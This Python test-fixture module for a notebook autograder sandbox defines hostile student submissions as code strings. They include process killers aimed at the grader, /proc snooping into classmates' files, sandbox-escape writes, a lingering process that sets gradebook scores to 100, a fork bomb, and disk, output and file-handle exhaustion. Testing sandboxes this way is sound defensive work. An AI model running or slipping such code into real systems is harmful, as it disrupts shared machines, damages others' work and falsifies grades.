"""Hostile Lab 1 submissions: what a student who wants to cheat, or to harm others, would try.

Each attack replaces the conv_params cell (1 point) and, unless said otherwise, ends by defining
conv_params correctly, so a submission that the sandbox stopped harmlessly scores every autograded
point. Each prints what it reached, for the tests to read in the autograded notebook.
"""

from __future__ import annotations

from tests.submissions import RELEASE, SOLUTION, edited

PLANTED = "planted-by-a-submission.txt"
LINGER_MARKER = "cnnkit-linger-marker"
CORRECT = "\ndef conv_params(f, c_in, k):\n    return f * f * c_in * k + k\n"

# Signal every process it can see, for 15 s (so it overlaps classmates graded meanwhile).
KILL_EVERYTHING = """
import os, signal, time
killed, end = set(), time.time() + 15
while time.time() < end:
    for name in os.listdir('/proc'):
        if name.isdigit() and int(name) != os.getpid():
            try:
                os.kill(int(name), signal.SIGKILL)
                killed.add(int(name))
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    time.sleep(0.2)
print('KILLER signalled', sorted(killed))
"""

# Kill the grader: anything whose command line names nbgrader, cnnkit, pytest or jupyter.
KILL_THE_GRADER = """
import os, signal
hit = []
for name in os.listdir('/proc'):
    if not name.isdigit() or int(name) == os.getpid():
        continue
    try:
        command = open(f'/proc/{name}/cmdline', 'rb').read()
    except OSError:
        continue
    if any(word in command for word in (b'nbgrader', b'cnnkit', b'pytest', b'jupyter')):
        try:
            os.kill(int(name), signal.SIGKILL)
            hit.append(int(name))
        except OSError:
            pass
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError:
    pass
print('GRADER KILLER signalled', hit)
"""

# Read and write classmates' files through /proc/*/cwd, /proc/*/root and /proc/*/fd.
PROC_PEEKER = f"""
import glob, os
seen = set()
for link in glob.glob('/proc/[0-9]*/cwd') + glob.glob('/proc/[0-9]*/root') + glob.glob('/proc/[0-9]*/fd/*'):
    try:
        seen.add(os.path.realpath(link))
    except OSError:
        pass
candidates = (glob.glob('/proc/[0-9]*/cwd') + glob.glob('/proc/[0-9]*/root/tmp/cnnkit-grade-*/*')
              + glob.glob('/tmp/cnnkit-grade-*/*') + glob.glob('/proc/[0-9]*/cwd/../../..'))
for folder in candidates:
    try:
        with open(os.path.join(folder, '{PLANTED}'), 'w') as handle:
            handle.write('x')
    except OSError:
        pass
for notebook in (glob.glob('/proc/[0-9]*/cwd/*.ipynb')
                 + glob.glob('/proc/[0-9]*/root/tmp/**/*.ipynb', recursive=True)
                 + glob.glob('/tmp/cnnkit-grade-*/**/*.ipynb', recursive=True)):
    try:
        with open(notebook, 'w') as handle:
            handle.write('{{}}')
    except OSError:
        pass
print('PEEKER saw', sorted(seen)[:30])
"""

# Write outside its own folder: home, site-packages, /tmp, the cnnkit package, /, /etc.
ESCAPER = f"""
import os, sys, site, pathlib, cnnkit
targets = [os.path.expanduser('~'), sys.prefix, *site.getsitepackages(), '/tmp', '/', '/etc',
           os.path.dirname(os.__file__), os.path.dirname(cnnkit.__file__), '/root', '/work']
outcome = []
for target in targets:
    try:
        pathlib.Path(target, '{PLANTED}').write_text('x')
        outcome.append((target, 'WROTE'))
    except OSError:
        outcome.append((target, 'blocked'))
print('ESCAPER', outcome)
"""

# A process that outlives the kernel and rewrites grades and the scored notebook afterwards.
LINGERER = f"""
import subprocess, sys
script = '''
import glob, sqlite3, time
deadline = time.time() + 180
while time.time() < deadline:
    for db in glob.glob('../../../gradebook.db') + glob.glob('/tmp/cnnkit-grade-*/*/gradebook.db'):
        try:
            connection = sqlite3.connect(db)
            connection.execute('update grade set auto_score = 100')
            connection.commit()
        except Exception:
            pass
    for notebook in glob.glob('../../../autograded/*/*/*.ipynb'):
        try:
            open(notebook, 'a').write(' ')
        except Exception:
            pass
    time.sleep(0.5)
'''
subprocess.Popen([sys.executable, '-c', script, '{LINGER_MARKER}'], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""

# A fork bomb (each process forks until it cannot, then waits and tries again).
FORK_BOMB = """
import subprocess, sys, time
bomb = '''
import os, time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(1)
'''
subprocess.Popen([sys.executable, '-c', bomb], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
time.sleep(8)
count = len([name for name in __import__('os').listdir('/proc') if name.isdigit()])
print('FORK BOMB reached', count, 'processes')
"""

# Fill the disk: its folder, then /tmp.
DISK_FILLER = """
written = 0
try:
    with open('filler.bin', 'wb') as handle:
        while written < 8 << 30:
            handle.write(bytes(1 << 20))
            written += 1 << 20
except OSError as error:
    print('DISK FILLER stopped after', written >> 20, 'MB:', type(error).__name__)
try:
    with open('/tmp/filler.bin', 'wb') as handle:
        for _ in range(8 << 10):
            handle.write(bytes(1 << 20))
except OSError as error:
    print('DISK FILLER /tmp stopped:', type(error).__name__)
"""

# Fill the folder it shares with the grader (its IPC sockets live there, on the grader's disk).
SOCKET_FOLDER_FILLER = """
import os
from ipykernel.connect import get_connection_file
folder = os.path.dirname(get_connection_file())
try:
    for index in range(40):
        with open(os.path.join(folder, f'junk{index}.bin'), 'wb') as handle:
            for _ in range(100):
                handle.write(bytes(1 << 20))
except OSError as error:
    print('SOCKET FOLDER FILLER stopped:', type(error).__name__)
"""

# One line of 50 MB (nbgrader's LimitOutput counts lines, not bytes).
FLOOD = """
print('x' * (50 << 20))
"""

# Switch the run profile to train instead of loading the submitted weights.
PROFILE_SWITCH = """
%env CNNKIT_PROFILE=smoke
import os
from cnnkit.train import current_profile
print('PROFILE UNDER GRADING', current_profile().name, 'NBGRADER_EXECUTION' in os.environ)
"""

# Open files until it fails.
FILE_HOG = """
handles = []
try:
    while True:
        handles.append(open('/dev/null'))
except OSError as error:
    print('FILE HOG stopped after', len(handles), 'files:', type(error).__name__)
for handle in handles:
    handle.close()
"""


def hostile_submissions() -> dict[str, dict]:
    """Each attacker's notebook: the solution (or, for the lingerer, the blank release) with its
    conv_params cell replaced by the attack."""
    attacks = {"killer": KILL_EVERYTHING, "grader_killer": KILL_THE_GRADER,
               "peeker": PROC_PEEKER, "escaper": ESCAPER, "forkbomb": FORK_BOMB,
               "diskfiller": DISK_FILLER, "filehog": FILE_HOG, "flood": FLOOD,
               "socketfiller": SOCKET_FOLDER_FILLER, "profile_switch": PROFILE_SWITCH}
    notebooks = {name: edited(SOLUTION, "conv_params", code + CORRECT)
                 for name, code in attacks.items()}
    # The unchanged release (every exercise raises NotImplementedError) plus a lingering process.
    notebooks["lingerer"] = edited(RELEASE, "conv_params", LINGERER + "raise NotImplementedError()\n")
    return notebooks
